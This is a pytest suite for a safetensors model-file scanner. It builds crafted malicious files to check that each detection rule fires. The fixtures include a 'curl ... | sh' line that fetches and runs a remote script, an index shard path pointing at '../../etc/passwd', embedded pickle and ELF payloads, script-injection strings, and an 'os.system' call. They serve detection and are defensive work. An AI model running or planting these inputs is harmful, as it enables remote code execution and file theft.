"""safetensors scanner: real files from the library raise nothing at medium or above; one crafted case per rule."""
from __future__ import annotations

import json
import pickle
import struct
import zipfile

import pytest

from mlguard import scan_file, scan_tree
from mlguard.findings import Severity
from runtime_fixtures import Canary

np = pytest.importorskip("numpy")
st_numpy = pytest.importorskip("safetensors.numpy")


def craft(header, data: bytes = b"", *, raw_header: bytes | None = None, pad: bool = True) -> bytes:
    body = raw_header if raw_header is not None else json.dumps(header).encode()
    if pad:
        body += b" " * (-len(body) % 8)
    return struct.pack("<Q", len(body)) + body + data


def rules(tmp_path, content: bytes, name="model.safetensors") -> dict[str, Severity]:
    path = tmp_path / name
    path.write_bytes(content)
    return {f.rule_id: f.severity for f in scan_file(path).findings if f.scanner != "core"}


def test_real_files_raise_nothing(tmp_path):
    torch = pytest.importorskip("torch")
    from safetensors.torch import save_file
    save_file({"w": torch.randn(4, 4), "b": torch.zeros(4, dtype=torch.bfloat16), "m": torch.ones(3, dtype=torch.bool)},
              tmp_path / "a.safetensors", metadata={"format": "pt", "ss_tag_frequency": json.dumps({"/data/x": 1}),
                                                     "modelspec.thumbnail": "data:image/png;base64,iVBORw0KGgo="})
    st_numpy.save_file({"x": np.arange(10, dtype=np.int64), "e": np.zeros(0, dtype=np.float32)}, tmp_path / "b.safetensors")
    result = scan_tree(tmp_path)
    assert [f for f in result.findings if f.severity >= Severity.MEDIUM] == []
    assert result.findings == ()


def test_a_sharded_model_with_its_index(tmp_path):
    for i in (1, 2):
        st_numpy.save_file({f"t{i}": np.zeros(2, dtype=np.float32)}, tmp_path / f"model-0000{i}-of-00002.safetensors")
    index = {"metadata": {"total_size": 16}, "weight_map": {"t1": "model-00001-of-00002.safetensors",
                                                            "t2": "model-00002-of-00002.safetensors"}}
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    assert scan_tree(tmp_path).findings == ()
    index["weight_map"].update(t3="../../etc/passwd", t4="model-00003-of-00003.safetensors",
                               t5="https://evil.example/x.safetensors", t6="C:\\models\\x.safetensors")
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    found = sorted((f.rule_id, f.evidence["shard"]) for f in scan_tree(tmp_path).findings)
    assert found == [("safetensors-index-missing-shard", "model-00003-of-00003.safetensors"),
                     ("safetensors-index-path", "../../etc/passwd"), ("safetensors-index-path", "C:\\models\\x.safetensors"),
                     ("safetensors-index-path", "https://evil.example/x.safetensors")]


F32x2 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


@pytest.mark.parametrize("content, rule, severity", [
    (struct.pack("<Q", 10**9) + b"{}", "safetensors-too-large", "medium"),
    (struct.pack("<Q", 500) + b"{}", "safetensors-malformed-header", "high"),
    (craft(None, raw_header=b'{"a": NaN}'), "safetensors-malformed-header", "high"),
    (craft(None, raw_header=b'{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, '
                            b'"w": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}}', data=b"\0" * 8),
     "safetensors-duplicate-key", "high"),
    (craft({"w": {**F32x2, "dtype": "F128"}}, b"\0" * 8), "safetensors-unknown-dtype", "medium"),
    (craft({"w": {"dtype": "F32", "shape": [2]}}, b"\0" * 8), "safetensors-invalid-tensor-entry", "medium"),
    (craft({"w": {**F32x2, "data_offsets": [-8, 0]}}, b"\0" * 8), "safetensors-invalid-tensor-entry", "medium"),
    (craft({"w": {**F32x2, "data_offsets": [8, 0]}}, b"\0" * 8), "safetensors-inverted-offsets", "high"),
    (craft({"w": {**F32x2, "data_offsets": [0, 16]}}, b"\0" * 8), "safetensors-out-of-bounds", "high"),
    (craft({"w": {"dtype": "F64", "shape": [2**40, 2**40], "data_offsets": [0, 8]}}, b"\0" * 8),
     "safetensors-shape-overflow", "high"),
    (craft({"w": {**F32x2, "shape": [3]}}, b"\0" * 8), "safetensors-size-mismatch", "high"),
    (craft({"a": F32x2, "b": {**F32x2, "data_offsets": [4, 12]}}, b"\0" * 12), "safetensors-overlapping-tensors", "high"),
    (craft({"w": {**F32x2, "data_offsets": [8, 16]}}, b"\0" * 16), "safetensors-hidden-data", "high"),
    (craft({"w": F32x2}, b"\0" * 8 + b"just some bytes"), "safetensors-hidden-data", "high"),
    (craft({"w": F32x2}, b"\0" * 8 + pickle.dumps(Canary("/tmp/x"))), "safetensors-executable-trailing", "critical"),
    (craft({"w": F32x2}, b"\0" * 8 + b"\x7fELF\x02\x01\x01" + b"\0" * 100), "safetensors-executable-trailing",
     "critical"),
    (craft({"u": {"dtype": "U8", "shape": [16], "data_offsets": [0, 16]}}, b"MZ\x90\x00" + b"\0" * 12),
     "safetensors-polyglot", "high"),
    (craft({"__metadata__": {"note": "curl -s http://x.example/i.sh | sh"}, "w": F32x2}, b"\0" * 8),
     "safetensors-metadata-code", "high"),
    (craft({"__metadata__": {"card": "<script>alert(1)</script>"}, "w": F32x2}, b"\0" * 8),
     "safetensors-metadata-html", "medium"),
    (craft({"__metadata__": {"home": "javascript:alert(1)"}, "w": F32x2}, b"\0" * 8), "safetensors-metadata-url", "low"),
    (craft({"__metadata__": {"src": "/home/alice/secret/model"}, "w": F32x2}, b"\0" * 8),
     "safetensors-metadata-path", "low"),
    (craft({"__metadata__": {"cb": "callback 203.0.113.7"}, "w": F32x2}, b"\0" * 8), "safetensors-metadata-ip", "low"),
])
def test_one_crafted_case_per_rule(tmp_path, content, rule, severity):
    found = rules(tmp_path, content)
    assert found.get(rule) == Severity(severity), found


def test_a_zip_hidden_in_the_tail_is_a_polyglot_and_its_members_are_scanned(tmp_path):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.pkl", pickle.dumps(Canary("/tmp/x")))
    content = craft({"w": {"dtype": "U8", "shape": [len(buf.getvalue())], "data_offsets": [0, len(buf.getvalue())]}},
                    buf.getvalue())
    found = rules(tmp_path, content)
    assert found["safetensors-polyglot"] == Severity.HIGH
    assert found["pickle-dangerous-global"] == Severity.CRITICAL


def test_kohya_metadata_stays_quiet_but_code_in_it_does_not(tmp_path):
    meta = {"ss_dataset_dirs": json.dumps({"/home/me/data/img": {"n_repeats": 10}}),
            "ss_output_name": "lora", "ss_sd_model_name": "https://huggingface.co/x/y"}
    assert rules(tmp_path, craft({"__metadata__": meta, "w": F32x2}, b"\0" * 8)) == {}
    meta["ss_note"] = "import os; os.system('id')"
    assert rules(tmp_path, craft({"__metadata__": meta, "w": F32x2}, b"\0" * 8)) == \
        {"safetensors-metadata-code": Severity.HIGH}


def test_a_100_gb_file_is_checked_from_its_header(tmp_path):
    """Tensor data is never read: a sparse 100 GB file scans like a small one."""
    n = 100 * 2**30
    header = craft({"w": {"dtype": "U8", "shape": [n], "data_offsets": [0, n]}})
    path = tmp_path / "huge.safetensors"
    with open(path, "wb") as f:
        f.write(header)
        f.truncate(len(header) + n)
    from mlguard.config import Config
    assert scan_tree(path, Config(max_file_size=2**40)).findings == ()
